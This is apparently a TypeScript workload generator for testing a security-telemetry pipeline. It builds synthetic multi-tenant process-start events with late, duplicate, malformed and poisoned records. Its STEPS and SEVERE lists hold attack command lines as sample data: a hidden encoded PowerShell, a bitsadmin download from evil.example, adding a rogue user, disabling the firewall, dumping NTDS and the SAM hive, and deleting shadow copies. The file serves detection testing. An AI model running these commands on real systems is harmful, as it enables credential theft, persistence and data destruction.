import { TELEMETRY_RAW } from '../../src/domain/contracts.gen.ts';
import type { Send } from '../../src/ports.ts';
import { CONTROL_HEADER, controlText } from '../../src/runner/watermark.ts';
import { partitioner } from '../../src/runner/wire-key.ts';
import { processStartLine } from '../fixtures/process-start.ts';
import type { Plan } from './plan.ts';
import { Random } from './random.ts';
import { LATENESS_MS, REGULAR_MS, SKEW_MS } from './rooms.ts';

export interface Fed {
  /** Virtual time at which it reaches the broker. */
  readonly at: number;
  readonly record: Send;
}

export interface Workload {
  readonly feeds: readonly Fed[];
  /** Every act, in order of time. */
  readonly drafts: readonly Draft[];
  /** Acts that one look at them tells to be severe, and that no stage fails on. */
  readonly severe: readonly Draft[];
  /** What makes the outcome depend on more than the order of the raw log. */
  readonly hasLate: boolean;
}

export const TENANTS = ['acme', 'globex'] as const;
/** Machines of both tenants bear the same names: what is joined by name alone is joined wrongly. */
export const HOSTS = ['ws-1', 'ws-2', 'dc-1'];
/** Apart from the others, so that its silence is one. */
export const STEADY_HOST = 'ws-7';
const STEADY_EVERY_MS = 500;
const MINUTE_MS = 60_000;
/**
 * How many minutes back a replay begins. What is told of the minute just before is wanted in the second of the others;
 * what is told of one that is four back is wanted in the first, after idle minutes.
 */
const PAST_MINUTES = [1, 4];
/** Above the numbers of all other events. */
const PAST_ID = 1000;
const USERS = ['CORP\\anna', 'CORP\\boris'];
const CALM = ['notepad.exe report.txt', 'excel.exe budget.xlsx', 'tasklist.exe', 'ipconfig.exe /all'];
const LOOKING = [
  'whoami.exe /all',
  'net.exe group "domain admins" /domain',
  'nltest.exe /domain_trusts',
  'systeminfo.exe',
];
const STEPS = [
  'powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
  'schtasks.exe /create /tn upd /tr C:\\Users\\Public\\a.exe /sc onlogon /ru system',
  'net.exe user evil P@ss /add',
  'netsh.exe advfirewall set allprofiles state off',
  'psexec.exe \\\\dc-1 -s cmd.exe',
  'bitsadmin.exe /transfer j http://evil.example/x.exe C:\\x.exe',
];
const SEVERE = [
  'ntdsutil.exe "ac i ntds" "ifm" "create full C:\\Temp\\copy" q q',
  'reg.exe save HKLM\\SAM C:\\Temp\\sam',
  'vssadmin.exe delete shadows /all /quiet',
];

/** An event before it is written down. */
export interface Draft {
  readonly id: string;
  readonly tenant: string;
  readonly host: string;
  readonly user: string;
  readonly command: string;
  readonly time: number;
}

/** What the world sends in one history, and when. The source of it all is the seed. */
export function workloadOf(plan: Plan, startMs: number): Workload {
  const random = new Random(plan.seed, 'workload');
  const { faults } = plan;
  const drafts = [...draftsOf(plan, startMs, random), ...(plan.hasSilentHost ? steadyDrafts(plan, startMs) : [])];
  const past = plan.hasPast ? pastDrafts(plan, startMs) : [];
  const feeds: Fed[] = past.map((draft) => ({ at: startMs, record: rawRecord(draft, plan, random) }));
  let hasLate = false;
  for (const draft of drafts) {
    const shuffle = faults['shuffled-events'] > 0 ? random.between(0, LATENESS_MS * 0.6) : random.between(0, 20);
    const isLate = random.chance(0.1 * faults['late-events']);
    const isFuture = random.chance(0.05 * faults['future-events']);
    hasLate ||= isLate;
    const at = draft.time + shuffle + (isLate ? random.between(LATENESS_MS, 30_000) : 0);
    const claimed = isFuture ? at + random.between(SKEW_MS + 1000, 1e10) : draft.time;
    const record = rawRecord({ ...draft, time: Math.floor(claimed) }, plan, random);
    feeds.push({ at, record });
    // within the time that late events are waited for, else the copy would be one
    if (random.chance(0.2 * faults['duplicate-events']))
      feeds.push({ at: at + random.between(0, LATENESS_MS * 0.3), record });
  }
  for (let i = 0; i < drafts.length * 0.15 * faults['bad-records']; i++)
    feeds.push({ at: startMs + random.between(0, plan.spanMs), record: badRecord(plan, random) });
  if (plan.mode === 'replay') feeds.push(...progress(plan, startMs));
  const ordered = feeds.map((fed, place) => ({ fed, place })).sort((a, b) => a.fed.at - b.fed.at || a.place - b.place);
  return {
    feeds: ordered.map(({ fed }) => fed),
    drafts: [...past, ...drafts],
    severe: drafts.filter(({ id, command }) => id.startsWith('e-') && SEVERE.includes(command)),
    hasLate,
  };
}

function draftsOf(plan: Plan, startMs: number, random: Random): readonly Draft[] {
  const drafts: Draft[] = [];
  const add = (time: number, tenant: string, host: string, command: string, kind = 'e') =>
    drafts.push({ id: `${kind}-${tenant}-${drafts.length}`, tenant, host, user: random.pick(USERS), command, time });
  const anyTime = () => startMs + random.between(0, plan.spanMs);
  while (drafts.length < plan.events) {
    const [tenant, host] = [random.pick(TENANTS), random.pick(HOSTS)];
    const dice = random.next();
    if (dice < 0.5) add(anyTime(), tenant, host, random.pick(CALM));
    else if (dice < 0.65) add(anyTime(), tenant, host, random.pick(SEVERE));
    else if (dice < 0.8) {
      // an attack in steps, now and then over two machines
      let time = anyTime();
      for (const command of random.shuffled(STEPS).slice(0, random.int(2, 5))) {
        add(time, tenant, random.chance(0.2) ? random.pick(HOSTS) : host, command);
        time += random.between(200, 6000);
      }
    } else {
      let time = anyTime();
      for (const command of random.shuffled(LOOKING)) {
        time += random.between(50, 1500);
        add(time, tenant, host, command);
      }
    }
  }
  if (plan.faults.poison > 0) {
    add(anyTime(), random.pick(TENANTS), random.pick(HOSTS), random.pick(STEPS), 'poison-features');
    add(anyTime(), random.pick(TENANTS), random.pick(HOSTS), random.pick(STEPS), 'poison-inference');
  }
  return drafts.sort((a, b) => a.time - b.time);
}

/** Often and long enough to be missed when it ends. */
function steadyDrafts(plan: Plan, startMs: number): readonly Draft[] {
  const random = new Random(plan.seed, 'steady');
  const tenant = random.pick(TENANTS);
  const from = startMs + random.between(0, plan.spanMs / 2);
  return Array.from({ length: (REGULAR_MS * 1.5) / STEADY_EVERY_MS }, (_, i) => ({
    ...{ id: `s-${tenant}-${i}`, tenant, host: STEADY_HOST, user: USERS[0] as string, command: CALM[0] as string },
    time: from + i * STEADY_EVERY_MS,
  }));
}

/** An ordinary minute that a replay reads first; histories begin with one. */
function pastDrafts(plan: Plan, startMs: number): readonly Draft[] {
  const random = new Random(plan.seed, 'past');
  const from = startMs - random.pick(PAST_MINUTES) * MINUTE_MS;
  const times = Array.from({ length: 20 }, () => Math.floor(from + random.between(0, MINUTE_MS)));
  return times
    .sort((a, b) => a - b)
    .map((time, i) => {
      const tenant = random.pick(TENANTS);
      const [host, user, command] = [random.pick(HOSTS), random.pick(USERS), random.pick(CALM)];
      return { id: `e-${tenant}-${PAST_ID + i}`, tenant, host, user, command, time };
    });
}

const partitionOf = partitioner();
const headers = (of: Readonly<Record<string, string>>) =>
  Object.fromEntries(Object.entries(of).map(([name, text]) => [name, Buffer.from(text)]));

function rawRecord({ id, tenant, host, user, command, time }: Draft, plan: Plan, random: Random): Send {
  const { raw } = plan.partitions;
  const partition = plan.faults.scatter > 0 ? random.int(0, raw - 1) : partitionOf(`${tenant}/${host}`, raw);
  const value = Buffer.from(processStartLine({ host, user, time, commandLine: command }));
  return {
    topic: TELEMETRY_RAW.name,
    partition,
    key: null,
    value,
    headers: headers({ 'tenant-id': tenant, ce_id: id }),
  };
}

function badRecord(plan: Plan, random: Random): Send {
  const to = { topic: TELEMETRY_RAW.name, partition: random.int(0, plan.partitions.raw - 1), key: null };
  const tenant = random.pick(TENANTS);
  const text = Buffer.from('Nov 26 12:00:00 ws-9 sshd[1]: nothing of note');
  return random.pick<Send>([
    { ...to, value: null, headers: headers({ 'tenant-id': tenant }) },
    { ...to, value: text, headers: {} },
    { ...to, value: Buffer.from([0, 0, 0, 0, 99, 1, 2]), headers: headers({ 'tenant-id': tenant }) },
    { ...to, value: Buffer.from([0, 1]), headers: headers({ 'tenant-id': tenant }) },
    { ...to, value: text, headers: headers({ 'tenant-id': 'No Tenant' }) },
  ]);
}

/** The source of a replay says how far it is; at last, that nothing more comes. */
function progress(plan: Plan, startMs: number): readonly Fed[] {
  const feeds: Fed[] = [];
  const say = (at: number, watermark: number) => {
    for (let partition = 0; partition < plan.partitions.raw; partition++) {
      const text = controlText({ sender: 'source/0', senders: 1, watermark, losses: {} });
      const record = {
        topic: TELEMETRY_RAW.name,
        partition,
        key: null,
        value: null,
        headers: headers({ [CONTROL_HEADER]: text }),
      };
      feeds.push({ at, record });
    }
  };
  const end = startMs + plan.spanMs + 40_000;
  for (let at = startMs; at < end; at += 5000) say(at, at);
  say(end + 20_000, Number.POSITIVE_INFINITY);
  return feeds;
}
